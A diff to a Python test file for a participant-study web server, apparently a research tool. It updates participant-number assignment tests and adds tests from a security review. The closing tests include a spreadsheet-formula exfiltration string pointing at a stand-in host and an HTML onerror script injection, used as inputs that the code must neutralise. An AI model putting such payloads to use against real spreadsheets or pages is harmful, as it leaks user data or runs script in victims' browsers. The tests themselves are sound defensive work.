@@ -264,7 +264,9 @@ def test_a_failed_sound_check_ends_the_study_there_and_on_every_return(study, tm
 
 def test_a_panel_id_gets_the_next_free_participant_number_and_keeps_it(study, tmp_path):
     """Prolific's PROLIFIC_PID (or MTurk's workerId) in the page's URL: api/assign gives it a participant number,
-    the same on every visit; numbers typed by hand are not given again; a number given to an ID answers to it only;
+    the same on every visit; numbers typed by hand are not given again for half an hour without consent (a security
+    review: they were held for good, and 24 page loads took the panel's places); a number given to an ID answers to
+    it only;
     a declined number is given again at once, one held without consent after half an hour; a full study says so."""
     from laughlab.study import db as DB
 
@@ -301,15 +303,15 @@ def test_a_panel_id_gets_the_next_free_participant_number_and_keeps_it(study, tm
         srv.close()
     # half an hour on, the numbers held without consent go to new IDs; the one that consented (2) stays its ID's
     DB.session_event(srv.db, "slow-page", 4, "start", external_id=DB.assigned_to(srv.db, 4))   # w0's page, open
-    assert DB.assign(srv.db, "late", numbers, hold_s=0) == 3
+    assert DB.assign(srv.db, "late", numbers, hold_s=0) == 1   # the number typed by hand without consent first
     # the page of an ID whose number went to another cannot consent or answer as that number (a re-read)
     with pytest.raises(DB.SessionRefused, match="went to another participant after half an hour"):
         DB.session_event(srv.db, "slow-page", 4, "consent")
     assert DB.assigned_to(srv.db, 2) == "5f1a2b3c4d5e6f7a8b9c0d1e"
     assert DB.assign(srv.db, "5f1a2b3c4d5e6f7a8b9c0d1e", numbers, hold_s=0) == 2
     got = DB.assignments(tmp_path / "r.sqlite")
-    assert [(a["external_id"], a["participant"]) for a in got] == [("5f1a2b3c4d5e6f7a8b9c0d1e", 2), ("late", 3)]
-    assert got[0]["consent_at"] is not None and got[1]["consent_at"] is None
+    assert [(a["external_id"], a["participant"]) for a in got] == [("late", 1), ("5f1a2b3c4d5e6f7a8b9c0d1e", 2)]
+    assert got[1]["consent_at"] is not None and got[0]["consent_at"] is None
     # `study assignments`: the same as CSV, printed or into a new file (never over one)
     out = fuzz.run_cli(["study", "assignments", str(tmp_path / "r.sqlite")])
     assert out.code == 0, out.stderr
@@ -927,7 +929,7 @@ def test_the_report_says_who_came_agreed_and_stayed_and_leaves_out_answers_witho
     out = fuzz.run_cli(["study", "analyze", str(srv.db), "--out", str(tmp_path / "rep")])
     assert out.code == 0, out.stderr
     readme = (tmp_path / "rep" / "README.md").read_text()
-    assert ("5 participants opened the page (7 page loads): 4 gave consent, 1 declined (nothing of theirs is "
+    assert ("5 participants opened the page (7 page loads): 4 gave consent, 1 declined (no answer of theirs is "
             "stored), 1 reached the end. 2 answered from more than one page load; 1 of them from two at once, their "
             "answers interleaved in time (two tabs or devices: participant 3).") in readme
     with open(tmp_path / "rep" / "exclusions.csv") as f:
@@ -1405,3 +1407,71 @@ def test_a_sound_check_on_fail_other_than_end_or_continue_is_one_line():
     assert check_preset({"questions": q, "audio_check": {"on_fail": "continue"}})["audio_check"]["on_fail"] == "continue"
     with pytest.raises(LaughlabError, match=r"^study preset: audio_check.on_fail must be end or continue \(got 'skip'\)$"):
         check_preset({"questions": q, "audio_check": {"on_fail": "skip"}})
+
+
+def test_the_servers_edges_a_security_review_found(study, tmp_path, monkeypatch):
+    """HEAD answers as GET does (it read the database's size from the working folder), a Content-Length of '²' and
+    JSON nested 100,000 deep are 4xx (they dropped the connection with a traceback), a lone surrogate is refused
+    (SQLite's error), a symbolic link in stimuli/ is not sent, the end is not taken before the last trial, a panel
+    ID is out of the log whatever its place in the body, and the log stops at its size."""
+    import http.client
+    import os
+
+    from laughlab.study import server as SV
+    from laughlab.study.server import files_of
+
+    d = design_of(study)
+    srv = Served(study, tmp_path / "r.sqlite")
+    port = srv.httpd.server_address[1]
+
+    def raw(method, path, headers=None, body=None):
+        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+        try:
+            conn.request(method, path, body=body, headers=headers or {})
+            r = conn.getresponse()
+            return r.status, r.read()
+        finally:
+            conn.close()
+
+    try:
+        assert raw("HEAD", "/index.html") == (200, b"")
+        assert raw("HEAD", "/r.sqlite")[0] == 404 and raw("HEAD", "/design.json")[0] == 404
+        assert raw("HEAD", "/api/start")[0] == 405
+        assert raw("POST", "/api/start", {"Content-Length": "²", "Content-Type": "application/json"})[0] == 411
+        deep = b"[" * 100_000 + b"]" * 100_000
+        assert srv.post("/api/start", None, raw=deep[:16_000])[0] in (400, 413)
+        assert srv.post("/api/start", None, raw=b"[" * 5000 + b"]" * 5000)[0] == 400
+        start = {"participant": 1, "session": "s1", "design": d["id"], "user_agent": "\ud800"}
+        status, reply = srv.post("/api/start", None, raw=json.dumps(start).encode())
+        assert status == 422 and "lone surrogate" in reply["error"]
+        assert srv.post("/api/start", {**start, "user_agent": "ok"})[0] == 200
+        assert srv.post("/api/event", {"participant": 1, "session": "s1", "event": "consent"})[0] == 200
+        status, reply = srv.post("/api/event", {"participant": 1, "session": "s1", "event": "finish"})
+        n = len(d["participants"]["1"]["trials"])
+        assert status == 409 and reply["error"] == f"participant 1 has answered 0 of {n} trials: the study is " \
+                                                  "finished with the last"
+        ident = "5f0c3e9a1b2c3d4e5f6a7b8c"
+        body = json.dumps({"user_agent": "x" * 170, "external_id": ident, "design": "other"}).encode()
+        assert srv.post("/api/assign", None, raw=body)[0] == 422   # an unknown field: refused, logged
+        log = (tmp_path / "r.sqlite.rejected.log").read_text(encoding="utf-8")
+        assert ident[:5] not in log
+        monkeypatch.setattr(SV, "LOG_MAX", log.count("\n") and len(log.encode()) + 1500)
+        for _ in range(20):
+            srv.post("/api/nope", {})
+        lines = (tmp_path / "r.sqlite.rejected.log").read_text(encoding="utf-8").splitlines()
+        assert "later refusals are not logged" in lines[-1] and sum("not logged" in ln for ln in lines) == 1
+    finally:
+        srv.close()
+    link = tmp_path / "linked"
+    shutil.copytree(study, link)
+    os.symlink(link / "design.json", link / "stimuli" / "evil.mp4")
+    assert "stimuli/evil.mp4" not in files_of(link) and "index.html" in files_of(link)
+
+
+def test_a_participants_texts_reach_the_reports_as_text():
+    from laughlab.study.exclusions import cell_safe, shown_typed
+
+    assert cell_safe('=HYPERLINK("https://x.example/?d="&A2,"open")').startswith("'=HYPERLINK")
+    assert [cell_safe(v) for v in ("+1", "-2", "@x", "Mozilla/5.0", 3.0, "")] == ["'+1", "'-2", "'@x", "Mozilla/5.0",
+                                                                                3.0, ""]
+    assert shown_typed("<img src=x onerror=alert(3)>|hat") == "?img src?x onerror?alert?3??, hat"
